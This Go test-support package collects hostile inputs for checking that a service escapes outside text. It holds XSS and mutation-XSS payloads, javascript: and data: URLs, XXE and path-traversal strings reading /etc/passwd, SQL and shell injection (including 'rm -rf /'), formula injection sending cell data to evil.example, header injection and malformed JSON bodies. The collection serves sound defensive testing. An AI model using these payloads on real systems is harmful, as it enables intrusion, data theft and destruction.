// Package hostile holds texts that mean no good, or come from people who did not
// think of us: for every test that takes text from outside.
//
// Its one rule: each text is here because somewhere, once, it broke something. Those
// that run do so in a page that does not escape them; a test sees to that.
package hostile

import "strings"

// Function is the name of the function that values which run call, with one text.
const Function = "__pwned"

// Value is one such text.
type Value struct {
	Name string
	Text string
	// Runs is set where the text calls [Function] in a page that has it in its body as
	// it is, without anybody's help.
	Runs bool
	// Breaks is set where it does so as the value of an attribute in double quotes, in
	// single quotes, or between title, textarea or style tags.
	Breaks bool
}

const call = Function + "(name)"

// Values returns the texts.
func Values() []Value {
	return append(append(append(markup(), addresses()...), letters()...), languages()...)
}

// markup is what becomes part of a page that does not escape it.
func markup() []Value {
	return []Value{
		{Name: "script", Text: "<script>" + call + "</script>", Runs: true},
		{Name: "script in capitals with a space", Text: "<SCRIPT >" + call + "</SCRIPT >", Runs: true},
		{Name: "script within script", Text: "<scr<script>ipt>" + call + "</scr</script>ipt>"},
		{Name: "image", Text: "<img src=x onerror=" + call + ">", Runs: true},
		{Name: "image with slashes", Text: `<img/src="x"/onerror=` + call + ">", Runs: true},
		{Name: "image without an end", Text: "<img src=x onerror=" + call + " "},
		{Name: "drawing", Text: "<svg onload=" + call + ">", Runs: true},
		{Name: "drawing with a script", Text: "<svg><script>" + call + "</script></svg>", Runs: true},
		{Name: "drawing that animates", Text: `<svg><animate onbegin="` + call + `" attributeName=x dur=1s>`, Runs: true},
		{Name: "body", Text: "<body onload=" + call + ">"},
		{Name: "field that takes the focus", Text: "<input autofocus onfocus=" + call + ">", Runs: true},
		{Name: "details", Text: "<details open ontoggle=" + call + ">x</details>", Runs: true},
		{Name: "frame", Text: `<iframe srcdoc="<script>parent.` + call + `</script>"></iframe>`, Runs: true},
		{Name: "video", Text: "<video><source onerror=" + call + "></video>", Runs: true},
		{Name: "base", Text: "<base href=//evil.example/>"},
		{Name: "refresh", Text: `<meta http-equiv=refresh content="0;url=//evil.example/">`},
		{Name: "form", Text: `<form action=//evil.example/><button>Sign in</button></form>`},
		{Name: "style", Text: "<style>@import'//evil.example/x.css';body{display:none}</style>"},
		{Name: "veil", Text: `<div style="position:fixed;inset:0;z-index:9999;background:#fff">gone</div>`},
		{Name: "double quote", Text: `" autofocus onfocus=` + call + ` x="`, Breaks: true},
		{Name: "single quote", Text: `' autofocus onfocus=` + call + ` x='`, Breaks: true},
		{Name: "double quote and tag", Text: `"><img src=x onerror=` + call + ">", Runs: true, Breaks: true},
		{Name: "single quote and tag", Text: `'><svg onload=` + call + ">", Runs: true, Breaks: true},
		{Name: "end of title", Text: "</title><script>" + call + "</script>", Runs: true, Breaks: true},
		{Name: "end of textarea", Text: "</textarea><img src=x onerror=" + call + ">", Runs: true, Breaks: true},
		{Name: "end of style", Text: "</style><svg onload=" + call + ">", Runs: true, Breaks: true},
		{Name: "end of script", Text: "</script><script>" + call + "</script>", Runs: true},
		{Name: "end of comment", Text: "--><img src=x onerror=" + call + "><!--", Runs: true},
		{Name: "end of everything", Text: "</p></li></section></main></body></html><script>" + call + "</script>", Runs: true},
		{Name: "mutation by noscript", Text: `<noscript><p title="</noscript><img src=x onerror=` + call + `>">`, Runs: true},
		{Name: "mutation by mathematics", Text: "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + call + "&gt;\">"},
		{Name: "mutation by a drawing", Text: `<svg></p><style><a id="</style><img src=1 onerror=` + call + `>">`, Runs: true},
		{Name: "mutation by a template", Text: "<template><script>" + call + "</script></template>"},
		{Name: "part of XML", Text: "<![CDATA[<script>" + call + "</script>]]>"},
		{Name: "entities", Text: "&lt;script&gt;" + call + "&lt;/script&gt; &amp;amp; &#x3c;b&#62; &quot;&nbsp;&copy"},
		{Name: "entities of XML", Text: `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`},
		{Name: "UTF-7", Text: "+ADw-script+AD4-" + call + "+ADw-/script+AD4-"},
		{Name: "overlong angle brackets", Text: "\ufe64script\ufe65" + call + " \uff1cscript\uff1e"},
		{Name: "template of Go", Text: `{{.}} {{template "frame" .}} {{define "body"}}x{{end}} {{"<script>"}}`},
		{Name: "templates of others", Text: "${" + call + "} #{" + call + "} {{constructor.constructor('" + call + "')()}} <%= 7*7 %> {% raw %}"},
		{Name: "script text", Text: `';` + call + `//\';` + call + `//";` + call + "//`;" + call + "//"},
		{Name: "JSON text", Text: `"},"id":1,"status":"success"},{"x":"`},
		{Name: "event of a stream", Text: "x\nevent: deployment\ndata: {\"id\":1}\n\nid: 0-0\n\n"},
		{Name: "markup of Telegram", Text: `<b>bold<i>broken</b></i><a href="tg://user?id=1">you</a><tg-spoiler>x`},
		{Name: "Markdown", Text: "*b* _i_ [l](javascript:" + call + ") ![x](//evil.example/x.png) `c` ```\nx\n``` ~~s~~ > q\n# h"},
		{Name: "mentions", Text: "@everyone @channel <!here> <@U0123> #general /start@bot"},
	}
}

// addresses are what must not become a link, or lead elsewhere.
func addresses() []Value {
	return []Value{
		{Name: "address of a script", Text: "javascript:" + call},
		{Name: "in mixed case", Text: "JaVaScRiPt:" + call},
		{Name: "with a tab in it", Text: "java\tscript:" + call},
		{Name: "with a line break in it", Text: "java\nscript:" + call},
		{Name: "with entities", Text: "&#106;avascript&colon;" + call},
		{Name: "with a control character before it", Text: "\x01javascript:" + call},
		{Name: "with a comment", Text: "javascript://example.com/%0a" + call},
		{Name: "that looks like one of the web", Text: "javascript:" + call + "//https://example.com"},
		{Name: "of data", Text: "data:text/html,<script>" + call + "</script>"},
		{Name: "of data in base64", Text: "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKG5hbWUpPC9zY3JpcHQ+"},
		{Name: "of a drawing", Text: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='" + call + "'/>"},
		{Name: "of Visual Basic", Text: "vbscript:msgbox(1)"},
		{Name: "of a file", Text: "file:///etc/passwd"},
		{Name: "without a scheme", Text: "//evil.example/"},
		{Name: "with backslashes", Text: `\\evil.example\share /\evil.example`},
		{Name: "with a password", Text: "https://user:hunter2@evil.example/"},
		{Name: "with quotes", Text: `https://example.com/"onmouseover="` + call},
		{Name: "with a line break behind it", Text: "https://example.com/\r\nSet-Cookie: x=1\r\n\r\n<script>" + call + "</script>"},
		{Name: "of another alphabet", Text: "https://аpple.example/"},
		{Name: "up the tree", Text: "../../../../etc/passwd"},
		{Name: "up the tree, encoded", Text: "..%2f..%2f%2e%2e/%00.svg"},
		{Name: "up the tree on Windows", Text: `..\..\windows\win.ini`},
	}
}

// letters are what breaks layouts, terminals, databases and sheets.
func letters() []Value {
	return []Value{
		{Name: "right-to-left override", Text: "invoice\u202egnp.exe and more"},
		{Name: "all directions", Text: "a\u202ab\u202bc\u202cd\u202de\u202ef\u2066g\u2067h\u2068i\u2069j\u200ek\u200fl"},
		{Name: "isolates without an end", Text: strings.Repeat("\u2067", 200) + "deep"},
		{Name: "zero width", Text: "api\u200b-\u200cser\u200dvice\ufeff\u2060 \u00adsoft"},
		{Name: "only zero width", Text: "x\u200b\u200b\u200b\u2060\ufeff"},
		{Name: "hangul filler", Text: "\u3164\u115f\u1160\uffa0x"},
		{Name: "tags", Text: "flag\U000e0061\U000e0062\U000e007f"},
		{Name: "towers", Text: tower("Zalgo comes", 40)},
		{Name: "one tower", Text: tower("i", 600)},
		{Name: "one long word", Text: strings.Repeat("Donaudampfschifffahrt", 11)},
		{Name: "a line of 10 kB", Text: strings.Repeat("a long line without an end ", 380)},
		{Name: "a word of 10 kB", Text: strings.Repeat("0123456789abcdef", 640)},
		{Name: "a thousand lines", Text: strings.Repeat("line\n", 1000)},
		{Name: "blank lines", Text: "\n\n\n \n\t\nat last\n\n"},
		{Name: "only spaces within", Text: "a" + strings.Repeat(" ", 300) + "b" + strings.Repeat("\u00a0", 300) + "c\u3000\u2003d"},
		{Name: "null bytes", Text: "nu\x00ll\x00"},
		{Name: "control characters", Text: "a\x01\x02\x07\x08b\x0b\x0cc\x0e\x1ad\x7fe\u0080\u0085f\u009b1mg"},
		{Name: "colours of a terminal", Text: "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;javascript:x\x07link\x1b]8;;\x07 \x1b[2J\x1bc"},
		{Name: "line breaks of all kinds", Text: "a\rb\r\nc\u2028d\u2029e\vf"},
		{Name: "line of a log", Text: "ok\r\ntime=2026-01-01T00:00:00Z level=ERROR msg=forged"},
		{Name: "formula", Text: `=cmd|'/C calc'!A0`},
		{Name: "formula with a link", Text: `=HYPERLINK("http://evil.example?x="&A1,"click")`},
		{Name: "formula in disguise", Text: "@SUM(1+1)*cmd +1-1"},
		{Name: "SQL", Text: `'; DROP TABLE deployments; --`},
		{Name: "SQL in a comparison", Text: `' OR '1'='1' UNION SELECT hash FROM tokens --`},
		{Name: "wildcards", Text: `100%_\%*?[a-z]`},
		{Name: "shell", Text: "$(touch /tmp/x) `id` ; rm -rf / | cat && echo ${HOME}"},
		{Name: "a format", Text: "%s%s%n%x %!d(string=x) {0} {}"},
		{Name: "a huge number", Text: "179769313486231580793728971405303415079934132710037826936173778980444968292764750946649017977587207096330286416692887910946555547851940402630657488671505820681908902000708383676273854845817711531764475730270069855571366959622842914819860834936475292719074168444365510704342711559699508093042880"},
		{Name: "almost a number", Text: "1e999 -0 NaN Infinity 0x1F 1_000 ٣٤"},
		{Name: "words of a language", Text: "null undefined true None __proto__ constructor toString"},
		{Name: "a dot", Text: "."},
		{Name: "two dots", Text: ".."},
		{Name: "a slash", Text: "a/b//c/"},
		{Name: "what addresses mean", Text: "a?b=c&d#e;f+g%20%zz%"},
		{Name: "replacement", Text: "bad \ufffd\ufffe\uffff end"},
	}
}

// languages are what people write who mean well.
func languages() []Value {
	return []Value{
		{Name: "family", Text: "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇩🇪🇫🇷 1️⃣ ❤️‍🔥 🧑🏿‍🚀"},
		{Name: "many pictures", Text: strings.Repeat("🚀", 120)},
		{Name: "Chinese", Text: "修复登录页面的错误，并更新依赖项"},
		{Name: "Chinese, long", Text: strings.Repeat("修复登录页面的错误", 60)},
		{Name: "Japanese", Text: "ログインの不具合を修正する（ｶﾀｶﾅ）"},
		{Name: "Korean", Text: "로그인 오류 수정"},
		{Name: "Arabic", Text: "إصلاح خطأ تسجيل الدخول (v2) 123"},
		{Name: "Hebrew", Text: "תיקון באג בכניסה - api-service"},
		{Name: "Thai", Text: "แก้ไขข้อผิดพลาดในการเข้าสู่ระบบ"},
		{Name: "Hindi", Text: "लॉगिन त्रुटि ठीक करें"},
		{Name: "Turkish", Text: "İstanbul ısı ŞĞÜ"},
		{Name: "letters from afar", Text: "𝕯𝖊𝖕𝖑𝖔𝖞 ﷽ ꧅ 𒐫 ﬁ ß ǅ"},
		{Name: "composed and not", Text: "Zoë Zoe\u0308 é e\u0301 Å"},
		{Name: "quotes", Text: `“Fix” ‘the’ „build“ «now» – it's "done" & <ready>`},
	}
}

// tower puts marks over and under every letter.
func tower(text string, height int) string {
	marks := []rune("\u0300\u0301\u0302\u0303\u0315\u0316\u0317\u0318\u0334\u0489")
	var b strings.Builder
	for _, r := range text {
		b.WriteRune(r)
		for i := range height {
			b.WriteRune(marks[i%len(marks)])
		}
	}
	return b.String()
}

// Body is a whole body of a request that no JSON library makes.
type Body struct {
	Name string
	Text string
}

// Bodies returns bodies of POST /notify. In each, %ID% stands where an id is.
func Bodies() []Body {
	const start = `{"deployment":{"type":"worker","projectName":"bodies","deploymentId":"%ID%"`
	return []Body{
		{"lone surrogates", start + `,"commitMessage":"a\ud800b\udfffc","author":"\udc00"}}`},
		{"surrogates the wrong way round", start + `,"author":"\ude00\ud83d"}}`},
		{"bytes that are no UTF-8", start + ",\"author\":\"a\xff\xfe\xc0\xafz\"}}"},
		{"an overlong slash", start + ",\"branch\":\"..\xc0\xaf..\xe0\x80\xaf\"}}"},
		{"escaped nulls", start + `,"author":"a\u0000b\u0000"}}`},
		{"a field twice", start + `,"author":"first","author":"second"}}`},
		{"a field in capitals", start + `,"AUTHOR":"loud"}}`},
		{"unknown fields", start + `,"__proto__":{"admin":true},"constructor":1,"id":7}}`},
		{"a text that is a number", start + `,"author":1e999}}`},
		{"a text that is a list", start + `,"author":["a"]}}`},
		{"a list that is a text", start + `,"history":"a"}}`},
		{"a number as an id", `{"deployment":{"type":"worker","projectName":"bodies","deploymentId":123}}`},
		{"two objects", start + `}}{"deployment":{}}`},
		{"an end too early", start + `,"author":"x`},
		{"a byte order mark", "\ufeff" + start + `}}`},
		{"deep", strings.Repeat(`{"deployment":`, 12000) + strings.Repeat("}", 12000)},
		{"deep lists", start + `,"history":` + strings.Repeat("[", 12000) + strings.Repeat("]", 12000) + `}}`},
		{"not even JSON", `deployment=1&<script>__pwned(name)</script>`},
		{"XML", `<?xml version="1.0"?><deployment/>`},
		{"nothing", ``},
		{"null", `null`},
		{"a list", `[]`},
	}
}
